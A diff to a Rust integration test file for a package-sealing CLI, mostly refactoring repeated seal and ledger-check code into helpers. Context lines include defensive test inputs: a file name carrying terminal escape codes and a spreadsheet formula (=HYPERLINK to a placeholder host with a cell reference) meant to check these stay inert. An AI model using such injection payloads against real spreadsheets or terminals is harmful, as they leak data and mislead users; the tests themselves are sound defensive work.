@@ -49,6 +49,28 @@ fn seal(f: &Flow, medium: &Path, extra: &[&str]) -> std::process::Output {
         .arg(&f.extract))
 }
 
+/// Seals with a ledger of the test's own.
+fn seal_recorded(f: &Flow, medium: &Path, ledger: &Path) -> std::process::Output {
+    run(isou()
+        .env("ISOU_LEDGER", ledger)
+        .arg("seal")
+        .args(["--to", &f.recipient_card, "-i"])
+        .arg(&f.sender)
+        .arg("--medium")
+        .arg(medium)
+        .arg(&f.extract))
+}
+
+/// A failed seal is not a shipment: the ledger holds no event at all.
+fn assert_no_events(ledger: &Path) {
+    let o = run(isou()
+        .env("ISOU_LEDGER", ledger)
+        .args(["record", "list", "--json"]));
+    assert!(o.status.success(), "{}", stderr(&o));
+    let list: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert_eq!(list.as_array().map(Vec::len), Some(0), "{list}");
+}
+
 #[test]
 fn seal_verify_open_round_trip_with_exit_codes() {
     let f = flow();
@@ -336,24 +358,11 @@ fn medium_too_small() {
         return;
     };
     let ledger = f.dir.path().join("small-ledger.sqlite");
-    let o = run(isou()
-        .env("ISOU_LEDGER", &ledger)
-        .arg("seal")
-        .args(["--to", &f.recipient_card, "-i"])
-        .arg(&f.sender)
-        .arg("--medium")
-        .arg(&m2)
-        .arg(&f.extract));
+    let o = seal_recorded(&f, &m2, &ledger);
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
     assert!(stderr(&o).contains("medium is full"), "{}", stderr(&o));
     assert!(entries(&m2).is_empty(), "{:?}", entries(&m2));
-    // A failed seal is not a shipment: the ledger holds no `sealed` event.
-    let o = run(isou()
-        .env("ISOU_LEDGER", &ledger)
-        .args(["record", "list", "--json"]));
-    assert!(o.status.success(), "{}", stderr(&o));
-    let list: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
-    assert_eq!(list.as_array().map(Vec::len), Some(0), "{list}");
+    assert_no_events(&ledger);
 }
 
 #[test]
@@ -524,18 +533,24 @@ fn output_disk_full_during_open_leaves_no_plaintext() {
     assert!(entries(&disk).is_empty(), "{:?}", entries(&disk));
 }
 
-#[test]
-fn hostile_tag_files_are_reported_bounded() {
-    // A 10 MB bag-info.txt line and manifest paths that escape the bag: every problem
-    // named, nothing read outside the bag, exit 1.
-    let dir = tempfile::tempdir().unwrap();
-    let bag = dir.path().join("bag");
+/// A bag folder in `dir` with `data/` and `bagit.txt` only: the rest is up to the test.
+fn plain_bag(dir: &Path) -> PathBuf {
+    let bag = dir.join("bag");
     fs::create_dir_all(bag.join("data")).unwrap();
     fs::write(
         bag.join("bagit.txt"),
         "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n",
     )
     .unwrap();
+    bag
+}
+
+#[test]
+fn hostile_tag_files_are_reported_bounded() {
+    // A 10 MB bag-info.txt line and manifest paths that escape the bag: every problem
+    // named, nothing read outside the bag, exit 1.
+    let dir = tempfile::tempdir().unwrap();
+    let bag = plain_bag(dir.path());
     fs::write(
         bag.join("bag-info.txt"),
         format!("Source-Organization: {}\n", "x".repeat(10_000_000)),
@@ -571,13 +586,7 @@ fn hostile_fields_reach_neither_the_terminal_nor_a_spreadsheet_as_code() {
     // and spreadsheet formulas: verify prints them inert, the ledger keeps them as they
     // are, and the 移送記録簿 CSV (opened in Excel) holds them as text.
     let dir = tempfile::tempdir().unwrap();
-    let bag = dir.path().join("bag");
-    fs::create_dir_all(bag.join("data")).unwrap();
-    fs::write(
-        bag.join("bagit.txt"),
-        "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n",
-    )
-    .unwrap();
+    let bag = plain_bag(dir.path());
     let name = "r\x1b[31mred\x07.csv";
     fs::write(bag.join("data").join(name), "1\n").unwrap();
     let info = "Source-Organization: =HYPERLINK(\"http://x/?\"&A1,\"\x1b]0;pwned\x07\")\n\
@@ -673,14 +682,7 @@ fn a_file_written_to_while_it_is_sealed_is_refused() {
     let medium = f.dir.path().join("medium");
     let ledger = f.dir.path().join("ledger.sqlite");
     fs::create_dir_all(&medium).unwrap();
-    let o = run(isou()
-        .env("ISOU_LEDGER", &ledger)
-        .arg("seal")
-        .args(["--to", &f.recipient_card, "-i"])
-        .arg(&f.sender)
-        .arg("--medium")
-        .arg(&medium)
-        .arg(&f.extract));
+    let o = seal_recorded(&f, &medium, &ledger);
     stop.store(true, std::sync::atomic::Ordering::Relaxed);
     writer.join().unwrap();
     assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
@@ -690,10 +692,5 @@ fn a_file_written_to_while_it_is_sealed_is_refused() {
         stderr(&o)
     );
     assert!(entries(&medium).is_empty(), "{:?}", entries(&medium));
-    let l = run(isou()
-        .env("ISOU_LEDGER", &ledger)
-        .args(["record", "list", "--json"]));
-    assert!(l.status.success(), "{}", stderr(&l));
-    let list: serde_json::Value = serde_json::from_slice(&l.stdout).unwrap();
-    assert_eq!(list.as_array().map(Vec::len), Some(0), "{list}");
+    assert_no_events(&ledger);
 }
